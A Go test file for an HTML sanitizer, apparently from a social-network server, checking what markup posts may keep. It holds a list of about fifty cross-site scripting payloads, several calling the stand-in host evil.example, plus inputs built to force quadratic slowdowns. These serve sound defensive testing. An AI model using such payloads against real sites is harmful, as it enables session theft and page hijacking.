package text

import (
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

func TestSanitizeKeepsWhatAPostMayContain(t *testing.T) {
	for _, c := range []struct{ name, source, want string }{
		{"nothing", "", ""},
		{"text", "a &lt; b & c", "a &lt; b &amp; c"},
		{"lists", "<p>Check out:</p><ul><li>Foo</li><li>Bar</li></ul>", "<p>Check out:</p><ul><li>Foo</li><li>Bar</li></ul>"},
		{"numbered lists", `<ol start="3" reversed=""><li value="5">Foo</li></ol>`, `<ol start="3" reversed=""><li value="5">Foo</li></ol>`},
		{"ruby", "<p><ruby>明日 <rp>(</rp><rt>Ashita</rt><rp>)</rp></ruby></p>", "<p><ruby>明日 <rp>(</rp><rt>Ashita</rt><rp>)</rp></ruby></p>"},
		{"headings", "<h1>Foo</h1><h5>Bar</h5>", "<h1>Foo</h1><h5>Bar</h5>"},
		{"the sixth heading is text", "<h6>Foo</h6>", " Foo "},
		{"formatting", "<del>a</del><s>b</s><code>c</code><b>d</b><strong>e</strong><u>f</u><sub>g</sub><sup>h</sup><i>i</i><em>j</em>", "<del>a</del><s>b</s><code>c</code><b>d</b><strong>e</strong><u>f</u><sub>g</sub><sup>h</sup><i>i</i><em>j</em>"},
		{"abbreviations", `<abbr title="a&quot;b" class="x">c</abbr>`, `<abbr title="a&quot;b">c</abbr>`},
		{"quotations", `<blockquote cite="https://a.com/">x</blockquote>`, `<blockquote cite="https://a.com/">x</blockquote>`},
		{"quotations of scripts", `<blockquote cite="javascript:x">x</blockquote>`, `<blockquote>x</blockquote>`},
		{"languages", `<p lang="ja"><span lang="en">x</span></p>`, `<p lang="ja"><span lang="en">x</span></p>`},
		{"line breaks", "a<br>b<br />c</br>d", "a<br>b<br>c<br>d"},
		{"preformatted text", "<pre>\n\n  a\n b</pre>", "<pre>\n\n  a\n b</pre>"},
		{"hard spaces", "a&nbsp;b", "a&nbsp;b"},
		{"a link without address", "<a>Test</a>", "Test"},
		{"its text alone", `<a><span class="invisible">foo&amp;</span><span>Test</span></a>`, "foo&amp;Test"},
		{"a link to elsewhere", `<a href="foo://bar">Test</a>`, "Test"},
		{"a relative link", `<a href="/bar">Test</a>`, "Test"},
		{"text that looks like a link", `<a href="foo://bar">Test&lt;a href="https://example.com"&gt;test&lt;/a&gt;</a>`, "Test&lt;a href=\"https://example.com\"&gt;test&lt;/a&gt;"},
		{"a link", `<a href="http://example.com">Test</a>`, `<a href="http://example.com" rel="nofollow noopener" target="_blank">Test</a>`},
		{"its claims are replaced", `<a target="x" rel="me" onclick="y" href="http://example.com">Test</a>`, `<a rel="nofollow noopener" href="http://example.com" target="_blank">Test</a>`},
		{"translate=no", `<a href="http://example.com" translate="no">Test</a>`, `<a href="http://example.com" translate="no" rel="nofollow noopener" target="_blank">Test</a>`},
		{"translate=foo", `<a href="http://example.com" translate="foo">Test</a>`, `<a href="http://example.com" rel="nofollow noopener" target="_blank">Test</a>`},
		{"an unclear address", `<a href=" https://google.fr">Test</a>`, "Test"},
		{"an address without host", `<a href="dweb:/a/foo">Test</a>`, `<a href="dweb:/a/foo" rel="nofollow noopener" target="_blank">Test</a>`},
		{"classes", `<span class="h-card x  mention evil quote-inline">a</span><p class="foo">b</p>`, `<span class="h-card mention quote-inline">a</span><p class="">b</p>`},
		{"an image", `<img src="https://a.com/b.png" alt="A cat">`, `<a href="https://a.com/b.png" rel="nofollow noopener" target="_blank">[🖼 A cat]</a>`},
		{"an image without words", `<img src="https://www.a.com/b.png">`, `<a href="https://www.a.com/b.png" rel="nofollow noopener" target="_blank">[🖼 a.com/b.png]</a>`},
		{"an image in a link", `<a href="https://a.com"><img src="https://a.com/b.png" alt="x"></a>`, `<a href="https://a.com" rel="nofollow noopener" target="_blank">[🖼 x]</a>`},
		{"an image with a script", `<img src="javascript:x" alt="y" onerror="z">`, "[🖼 y]"},
		{"an image of nothing", `<img>`, ""},
		{"formulas", `<math><semantics><mrow><msup><mi>x</mi><mi>n</mi></msup><mo>+</mo><mi>y</mi></mrow><annotation encoding="application/x-tex">x^n+y</annotation></semantics></math>`, "$x^n+y$"},
		{"formula blocks", `<math display="block"><semantics><mi>x</mi><annotation encoding="application/x-tex">x^n+y</annotation></semantics></math>`, "$$x^n+y$$"},
		{"plain formulas", `<math><semantics><msqrt><mi>x</mi></msqrt><annotation encoding="text/plain">sqrt(x)</annotation></semantics></math>`, "sqrt(x)"},
		{"TeX is preferred", `<math><semantics><mi>x</mi><annotation encoding="text/plain">sqrt(x)</annotation><annotation encoding="application/x-tex">\sqrt x</annotation></semantics></math>`, `$\sqrt x$`},
		{"formulas without annotation", `a<math><mi>x</mi></math>b`, "ab"},
		{"formulas with mark-up", `<math><semantics><annotation encoding="application/x-tex">&lt;script&gt;</annotation></semantics></math>`, "$&lt;script&gt;$"},
		{"a table", "<table><tr><td>a</td></tr></table>", "a"},
		{"a division", "<div>foo</div><div>bar</div>", " foo  bar "},
		{"a comment", "a<!-- b -->c<!doctype html>d", "acd"},
		{"a paragraph in a paragraph", "<p>a<p>b", "<p>a</p><p>b</p>"},
		{"a list in a paragraph", "<p>a<ul><li>b<li>c</ul>d</p>", "<p>a</p><ul><li>b</li><li>c</li></ul>d"},
		{"a nested list", "<ul><li>a<ul><li>b</ul><li>c</ul>", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"},
		{"a link in a link", `<a href="https://a.com">a<a href="https://b.com">b</a></a>`, `<a href="https://a.com" rel="nofollow noopener" target="_blank">a</a><a href="https://b.com" rel="nofollow noopener" target="_blank">b</a>`},
		{"crossed tags", "<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c"},
		{"a stray end tag", "a</p></div></b>b", "a b"},
		{"an inline end does not close a block", "<span><p>a</span>b</p>", "<span><p>ab</p></span>"},
		{"an unclosed link leads nowhere for long", "<p><a>x</p><p><b>y</b></p>", "<p>x</p><p><b>y</b></p>"},
		{"broken UTF-8", "<p>a\xff\x00b&#0;&#1;</p>", "<p>a\uFFFDb\uFFFD</p>"},
		{"a tag cut short", "<p>a<a href=\"https://b", "<p>a</p>"},
		{"the same attribute twice", `<a href="https://a.com" href="javascript:x">y</a>`, `<a href="https://a.com" rel="nofollow noopener" target="_blank">y</a>`},
	} {
		if got := Sanitize(c.source); got != c.want {
			t.Errorf("%s: Sanitize(%q) =\n%s\nwant\n%s", c.name, c.source, got, c.want)
		}
	}
}

// Attacks from the security reference: post, bio, field and every other text that comes from elsewhere.
var attacks = []string{
	`<script>alert(1)</script>x`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>x`,
	`<scr<script>ipt>alert(1)</script>`,
	`<script/xss>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" alt="&quot;><script>alert(1)</script>">`,
	`<svg onload=alert(1)><circle/></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)"><mtext>x</mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<style>@import'//evil.example';</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<base href="https://evil.example/">`,
	`<embed src="//evil.example"><object data="//evil.example"><param></object>`,
	`<form action="//evil.example"><input name=x><button>x</button></form>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example>`,
	`<a href="javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="https://a.com" onmouseover="alert(1)" style="x">x</a>`,
	`<a href='https://a.com/"onclick="alert(1)'>x</a>`,
	`<a href="https://a.com/&quot; onclick=&quot;alert(1)">x</a>`,
	`<p class="mention&quot; onclick=&quot;alert(1)">x</p>`,
	`<p lang='"><script>alert(1)</script>'>x</p>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template>`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php <script>alert(1)</script> ?>`,
	`<<script>alert(1)//<</script>`,
	`<p/onclick=alert(1)>x`,
	"<p\x0bonclick=alert(1)>x",
	`</script><script>alert(1)</script`,
	`:<img src=x onerror=alert(1)>:`,
	`<a href="https://a.com">:blobcat"onerror=":</a>`,
	`<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee><details ontoggle=alert(1) open>x</details>`,
	`<body onload=alert(1)><html onclick=alert(1)><head>`,
	`<select><option><p id="x"></option></select>`,
}

func TestSanitizeDisarmsAttacks(t *testing.T) {
	for _, attack := range attacks {
		assertClean(t, attack)
	}
}

func TestRenderDisarmsAttacks(t *testing.T) {
	for _, attack := range attacks {
		assertWellFormed(t, Render(attack, testLinks), set("p br a span"))
		assertWellFormed(t, RenderField(attack, testLinks), set("a span"))
	}
}

// assertClean checks everything that Sanitize promises of its output, also in the eyes of the
// parser of a browser.
func assertClean(t *testing.T, source string) {
	t.Helper()
	allowed := map[string]bool{}
	for name := range keptAttributes {
		allowed[name] = true
	}
	clean := Sanitize(source)
	assertWellFormed(t, clean, allowed)
	if again := Sanitize(clean); again != clean {
		t.Fatalf("Sanitize(%q) = %q, and then %q", source, clean, again)
	}
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(clean), body)
	if err != nil {
		t.Fatalf("parse %q: %v", clean, err)
	}
	for _, n := range nodes {
		for d := range n.Descendants() {
			assertCleanNode(t, source, d)
		}
		assertCleanNode(t, source, n)
	}
}

func assertCleanNode(t *testing.T, source string, n *html.Node) {
	t.Helper()
	if n.Type != html.ElementNode {
		return
	}
	if _, ok := keptAttributes[n.Data]; !ok || n.Namespace != "" {
		t.Fatalf("<%s> comes out of %q", n.Data, source)
	}
	for _, a := range n.Attr {
		if !keepsAttribute(n.Data, a.Key) && a.Key != "target" {
			t.Fatalf("%s=%q on <%s> comes out of %q", a.Key, a.Val, n.Data, source)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add("<ul><li><p>a<ol><li><h1>b<h2><a href=https://x.y>c<b><blockquote>d</b>")
	f.Add("<pre>\n\r&#13;\n</pre><ruby><rt>a<rp>b")
	f.Add("<a><b></a></b><p><i></p></i><math><semantics><annotation encoding=text/plain>a")
	f.Fuzz(func(t *testing.T, source string) { assertClean(t, source) })
}

func TestPlainTextIsWhatAReaderSees(t *testing.T) {
	for source, want := range map[string]string{
		"<p>one</p><p>two<br>three</p>":                "one\ntwo\nthree",
		"<p>one<br /><br />two</p>":                    "one\ntwo",
		"a &amp; b &lt;c&gt; &#x1F600;":                "a & b <c> 😀",
		"<ul><li>a</li><li>b</li></ul>c":               "a\nb\nc",
		"<p>a</p>\n<p>b</p>\n":                         "a\nb",
		"<p>see <a href=x><span>https://</span>b</a>":  "see https://b",
		"<script>alert(1)</script><style>x</style>hey": "hey",
		"":              "",
		"plain":         "plain",
		"<p></p>":       "",
		"a<!-- b -->c":  "ac",
		"<p>日本</p><p>語": "日本\n語",
	} {
		if got := PlainText(source); got != want {
			t.Errorf("PlainText(%q) = %q, want %q", source, got, want)
		}
	}
}

// hostile inputs grow to any size. Each made some program of this kind take the square of it.
var hostile = map[string]string{
	"nested spans":         "<span>",
	"nested bold":          "<b>",
	"nested links":         `<a href="https://a.com">`,
	"nested blockquotes":   "<blockquote>",
	"nested lists":         "<ul><li>",
	"nested unknown":       "<div>",
	"nested formulas":      "<math>",
	"nested pictures":      "<svg>",
	"formatting in blocks": "<b><p>",
	"crossed":              "<b><i></b></i>",
	"end tags":             "</p></b></blockquote>",
	"open brackets":        "<",
	"open tags":            "<a ",
	"open attributes":      `<a href="`,
	"open comments":        "<!--",
	"open instructions":    "<?",
	"ampersands":           "&",
	"entities":             "&amp",
	"letters after &":      "&aaaaaaaaa",
	"scripts":              "<script>",
	"titles":               "<title>",
	"ats":                  "@",
	"mentions":             "@a@b",
	"mention dots":         "@a.-",
	"mentions with space":  " @a@b.c",
	"hashes":               "#",
	"hashtags":             " #a·",
	"digits":               " #1",
	"schemes":              "https://",
	"chained links":        "https://a.com/",
	"links":                " https://a.com",
	"dots":                 "https://a.",
	"domains":              "a.",
	"wide domains":         "あ.",
	"wide letters":         "https://あ",
	"parentheses":          "https://a.com/(",
	"only parentheses":     "(",
	"closed parentheses":   "https://a.com/(a)",
	"queries":              "https://a.com/?(",
	"chats":                "xmpp:a@",
	"chat hosts":           "xmpp://a@b.com/",
	"magnets":              "magnet:?a",
	"colons":               ":",
	"shortcodes":           ":ab",
	"closed shortcodes":    " :ab:",
	"joiners":              "👩‍",
	"flags":                "🇯",
	"combining":            "\u0301",
	"Hangul":               "ᄀ",
	"broken UTF-8":         "\xff",
	"control":              "\x00",
	"line breaks":          "\n",
	"paragraphs":           "a\n\n",
	"spaces":               " ",
	"quotes":               `"`,
}

func TestLongTextsFromStrangersTakeLinearTime(t *testing.T) {
	size := 1 << 18
	if testing.Short() {
		size = 1 << 15
	}
	for name, piece := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, source := range []string{
				strings.Repeat(piece, size/len(piece)),
				"https://a.com/" + strings.Repeat(piece, size/8/len(piece)),
				"<p title='" + strings.Repeat(piece, size/8/len(piece)),
			} {
				start := time.Now()
				readEverything(source)
				// Linear is a blink; the square of it would be many minutes.
				if took := time.Since(start); took > time.Minute {
					t.Errorf("%.30q took %v", source, took)
				}
			}
		})
	}
}

func readEverything(source string) {
	Render(source, testLinks)
	Count("", source)
	Sanitize(source)
	PlainText(source)
	EmojiCodes(source)
	TagKey(source)
	ValidTag(source)
	Truncate(source, len(source)/2)
}

func TestDeepNestingKeepsTextAndStaysShallow(t *testing.T) {
	clean := Sanitize(strings.Repeat("<span>", 100_000) + "x" + strings.Repeat("</span>", 100_000) + "<b>y</b>")
	if got := PlainText(clean); got != "xy" {
		t.Errorf("the text is %.20q", got)
	}
	if n := strings.Count(clean, "<span>"); n != maxOpen {
		t.Errorf("%d spans remain", n)
	}
	if !strings.HasSuffix(clean, "</span><b>y</b>") {
		t.Errorf("what follows is inside: …%s", clean[len(clean)-40:])
	}
}

func TestManyAttributesAreReadOnce(t *testing.T) {
	start := time.Now()
	clean := Sanitize("<p" + strings.Repeat(" lang=x class=y a=b", 50_000) + ">z")
	if clean != `<p lang="x" class="">z</p>` || time.Since(start) > 10*time.Second {
		t.Errorf("Sanitize = %.60q after %v", clean, time.Since(start))
	}
}

func BenchmarkSanitize(b *testing.B) {
	source := strings.Repeat(`<p>Hello <span class="h-card"><a href="https://a.com/@b" class="u-url mention" onclick="x">@<span>b</span></a></span><br>text &amp; more</p>`, 5)
	b.SetBytes(int64(len(source)))
	b.ReportAllocs()
	for b.Loop() {
		Sanitize(source)
	}
}
